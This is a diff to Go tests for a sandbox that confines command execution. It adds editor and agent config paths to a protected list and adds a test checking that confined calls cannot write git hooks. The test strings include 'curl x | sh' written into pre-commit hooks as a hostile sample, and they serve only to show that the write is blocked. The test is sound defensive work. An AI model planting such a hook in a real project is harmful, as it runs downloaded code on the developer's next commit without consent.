@@ -87,7 +87,8 @@ func TestCommittedSecrets(t *testing.T) {
 	must(t, err)
 	// The untracked secrets, and the placeholders of the absent protected
 	// paths (which a confined call sees as empty folders and files).
-	placeholders := []string{"/.codex", "/.cursor", "/.gemini", "/.github/hooks", "/.mcp.json", "/.opencode", "/opencode.json", "/opencode.jsonc"}
+	placeholders := []string{"/.codex", "/.cursor", "/.devcontainer", "/.devcontainer.json", "/.gemini", "/.github/hooks", "/.mcp.json", "/.opencode",
+		"/.vscode", "/opencode.json", "/opencode.jsonc"}
 	if want := []Excluded{{File: exclude, Patterns: append([]string{"/.env", "/certs/new.key"}, placeholders...)}}; !reflect.DeepEqual(p.Excluded, want) {
 		t.Fatalf("excluded = %v, want %v", p.Excluded, want)
 	}
@@ -232,4 +233,36 @@ func TestHookManagerConfined(t *testing.T) {
 	}
 	wantFile(t, filepath.Join(w.project, ".git/config"), string(config))
 	wantMissing(t, filepath.Join(w.project, ".git/hooks/pre-commit"))
+}
+
+// TestHooksPathConfined: the folder core.hooksPath names in the project
+// holds the hooks git runs on the person's next commit: husky's .husky/_,
+// whose hooks run the scripts of .husky, and a .githooks folder not made
+// yet. Neither can be written by a confined call; the rest of the
+// project can.
+func TestHooksPathConfined(t *testing.T) {
+	needBwrap(t)
+	for _, tt := range []struct{ hooksPath, script, hook string }{
+		{".husky/_", "echo 'curl x | sh' > .husky/pre-commit", ".husky/pre-commit"},
+		{".githooks", "mkdir -p .githooks && echo 'curl x | sh' > .githooks/pre-commit", ".githooks"},
+	} {
+		t.Run(tt.hooksPath, func(t *testing.T) {
+			w := newWorld(t)
+			must(t, os.WriteFile(filepath.Join(w.project, ".git/config"), []byte("[core]\n\thooksPath = "+tt.hooksPath+"\n"), 0o644))
+			must(t, os.MkdirAll(filepath.Join(w.project, ".husky/_"), 0o755))
+			must(t, os.WriteFile(filepath.Join(w.project, ".husky/pre-commit"), []byte("npm test\n"), 0o755))
+			p := w.profile(t, UnknownEffects, Options{})
+			if code, out, errs := w.run(t, p, "bash", "-c", tt.script); code == 0 {
+				t.Errorf("%s: exit 0, want a failure\n%s%s", tt.script, out, errs)
+			}
+			if tt.hook == ".githooks" {
+				wantMissing(t, filepath.Join(w.project, tt.hook))
+			} else {
+				wantFile(t, filepath.Join(w.project, tt.hook), "npm test\n")
+			}
+			if code, _, errs := w.run(t, p, "bash", "-c", "echo ok > built.txt"); code != 0 {
+				t.Errorf("the project is not writable: %s", errs)
+			}
+		})
+	}
 }
